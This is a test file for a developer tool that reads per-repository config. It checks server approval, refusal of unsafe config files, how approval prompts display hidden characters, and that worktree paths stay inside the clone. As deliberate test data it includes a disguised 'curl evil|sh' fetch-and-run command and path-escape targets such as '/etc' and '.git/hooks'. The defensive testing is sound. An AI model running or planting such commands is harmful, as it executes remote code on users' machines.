import { execFileSync } from "node:child_process"
import {
  chownSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { expect, onTestFinished, test, vi } from "vitest"
import { placeSaid } from "../../src/attempts/verify/approval.ts"
import { treesOf } from "../../src/repository/trees-place.ts"
import { requireAllowed } from "../../src/terminal/allowed.ts"
import { isElsewhere } from "../../src/terminal/project-checks.ts"
import { readSettings } from "../../src/terminal/settings.ts"

/** A clone with a file that its author wrote, and the settings of whoever has cloned it. */
function makeClone(file?: object | string) {
  const place = realpathSync(mkdtempSync(join(tmpdir(), "upnext-clone-")))
  onTestFinished(() => rmSync(place, { recursive: true, force: true }))
  const root = join(place, "clone")
  mkdirSync(join(root, ".git"), { recursive: true })
  mkdirSync(join(root, "src"))
  const path = join(root, ".upnext.json")
  if (file !== undefined) writeFileSync(path, typeof file === "string" ? file : JSON.stringify(file))
  const env = { HOME: place, XDG_CONFIG_HOME: join(place, "config"), UPNEXT_HOME: join(place, "home") }
  const read = (flags: object = {}, cwd = join(root, "src")) => readSettings({ ...flags }, env, cwd)
  return { place, root, path, env, read }
}

/** What is said on standard error. */
function listen(): () => string {
  const said = vi.spyOn(process.stderr, "write").mockReturnValue(true)
  onTestFinished(() => said.mockRestore())
  return () => said.mock.calls.map(([text]) => String(text)).join("")
}

const url = "https://board.example"

test("another server that a clone names is asked once it was allowed, and no server before", async () => {
  const said = listen()
  const { path, read, root } = makeClone({ url, checks: { test: "npm test" } })
  const refusal = { code: "unreachable", message: expect.stringContaining(`names the server at ${url}`) }
  await expect(read()).rejects.toMatchObject(refusal)
  await expect(read()).rejects.toThrow("http://127.0.0.1:4445")
  await expect(read({ home: root })).rejects.toMatchObject(refusal)
  expect(await read({ yes: true })).toMatchObject({ url, homeCheck: undefined })
  expect(said()).toBe(`${path} says:\n  url   ${url}\n  test  npm test\n`)
  expect(await read()).toMatchObject({ url, urlSource: path, homeCheck: undefined })
  // Who says --home means that one.
  expect((await read({ home: root })).homeCheck).toBeDefined()
  writeFileSync(path, JSON.stringify({ url: `${url}.evil` }))
  await expect(read()).rejects.toMatchObject({ code: "unreachable" })
  for (const other of ["http://127.0.0.2:4445", "http://[::1]:4445", "https://localhost:4445"]) {
    writeFileSync(path, JSON.stringify({ url: other }))
    await expect(read(), other).rejects.toMatchObject({ code: "unreachable" })
  }
  writeFileSync(path, JSON.stringify({ url: "http://localhost:4445" }))
  expect((await read()).url, "where it listens").toBe("http://127.0.0.1:4445")
})

test("the search for the file ends at the root of the repository, and at a file of another user", async () => {
  const said = listen()
  const { place, path, read } = makeClone()
  writeFileSync(join(place, ".upnext.json"), JSON.stringify({ project: "above" }))
  expect((await read()).project).toBeUndefined()
  if (process.getuid?.() !== 0) return
  writeFileSync(path, JSON.stringify({ project: "theirs" }))
  chownSync(path, 12_345, 12_345)
  expect((await read()).project).toBeUndefined()
  expect(said()).toContain(`${path} belongs to another user, so it is not used.`)
})

test("only a plain file of bounded size is read, here and in a home", async () => {
  const odd: ((path: string) => void)[] = [
    (path) => symlinkSync("/dev/zero", path),
    (path) => execFileSync("mkfifo", [path]),
    (path) => mkdirSync(path),
    (path) => {
      writeFileSync(path, "")
      truncateSync(path, 300 * 1024 * 1024)
    },
  ]
  for (const make of odd) {
    const { path, read, env } = makeClone()
    mkdirSync(env.UPNEXT_HOME)
    make(join(env.UPNEXT_HOME, "config.json"))
    const refusal = { code: "invalid_config", message: expect.stringMatching(/so it is not read\.$/) }
    await expect(read()).rejects.toMatchObject(refusal)
    rmSync(join(env.UPNEXT_HOME, "config.json"), { recursive: true })
    make(path)
    await expect(read()).rejects.toMatchObject(refusal)
  }
  const { root, path, read } = makeClone()
  writeFileSync(join(root, "plain"), "{}")
  symlinkSync("plain", path)
  await expect(read()).rejects.toThrow(`${path} is a link`)
})

test("a question shows each line break, and what is hidden, in lines that nothing else looks like", async () => {
  const said = listen()
  const { root, path, env } = makeClone()
  const text = "npm test # all\ncurl evil|sh\r# \u202e\u200b\u00a0x"
  const decisions = [{ kind: "check", name: "test", text }] as const
  const asked = { root, path, decisions }
  const refusal = { detail: "Nobody has allowed it.", hint: "Look at it." }
  await expect(requireAllowed(asked, { env, isYes: false, mayAsk: false, refusal })).rejects.toThrow(
    refusal.detail,
  )
  await requireAllowed(asked, { env, isYes: true, refusal })
  const second = `        curl evil|sh<U+000D># <U+202E><U+200B><U+00A0>x`
  expect(said()).toBe(`${path} says:\n  test  npm test # all\n${second}\n`)
  await requireAllowed(asked, { env, isYes: false, mayAsk: false, refusal })
  const names = [`test${"\u2800".repeat(2)}npm test #`, "test  npm test #"]
  const alike = names.map((name) => ({ kind: "check", name, text: "curl evil|sh" }) as const)
  await requireAllowed({ root, path, decisions: alike }, { env, isYes: true, refusal })
  expect(said()).toContain(`  "test<U+2800><U+2800>npm test #"  curl evil|sh\n  "test  npm test #"`)
  const kept = JSON.parse(
    readFileSync(join(env.XDG_CONFIG_HOME, "upnext", "approved.json"), "utf8"),
  ) as object
  expect(Object.keys(kept)).toEqual([root])
})

test("the trees of a clone are in it or right beside it, and no link leads them elsewhere", async () => {
  const { place, root } = makeClone()
  for (const trees of ["trees", ".trees", "a/b", "../clone.trees", "../work", ".."])
    expect(isElsewhere(root, trees), trees).toBe(false)
  for (const trees of [
    "../../.vim/pack/x/start",
    "../.vim",
    "../a/b",
    "/etc",
    ".git/hooks",
    "a/.GIT/x",
    "../../x",
  ])
    expect(isElsewhere(root, trees), trees).toBe(true)
  execFileSync("git", ["init", "--quiet", "--bare", join(place, "bare")])
  expect(isElsewhere(join(place, "bare"), "hooks"), "git's own").toBe(true)
  expect(isElsewhere(root, "../bare"), "git's own").toBe(true)
  expect(await treesOf(root, placeSaid(root, "trees"))).toBe(join(root, "trees"))
  symlinkSync(place, join(root, "trees"))
  for (const trees of ["trees", "trees/deep"])
    await expect(treesOf(root, placeSaid(root, trees))).rejects.toMatchObject({ code: "tree_unfit" })
  // A person who names a place knows it.
  expect(await treesOf(root, { directory: "trees" })).toBe(join(root, "trees"))
})
